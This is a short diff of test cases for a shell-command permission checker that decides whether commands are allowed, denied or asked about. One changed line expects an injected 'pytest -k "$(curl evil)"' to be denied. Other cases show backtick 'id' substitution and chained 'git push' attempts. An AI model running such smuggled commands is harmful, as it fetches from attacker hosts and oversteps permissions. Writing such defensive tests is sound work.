@@ -49,9 +49,9 @@ RULES = Rules(
         ("ls", ""),
         ("pytest -k 'a or (b and c)'", "allow"),  # quoted: no subshell, no separator
         ("pytest -k 'x; git push'", "allow"),  # a quoted ; is an argument
-        ('pytest -k "$(curl evil)"', ""),  # $( ) expands inside double quotes
+        ('pytest -k "$(curl evil)"', "deny"),  # $( ) runs inside double quotes
         ("pytest -k `id`", ""),
-        ("pytest 'unclosed", ""),
+        ("pytest 'unclosed", "ask"),  # not bash: asks in every mode (there are deny rules)
         ('git status; echo "a && git push"', ""),  # the quoted git push is echo's text
         ("true && git  push", "deny"),
     ],
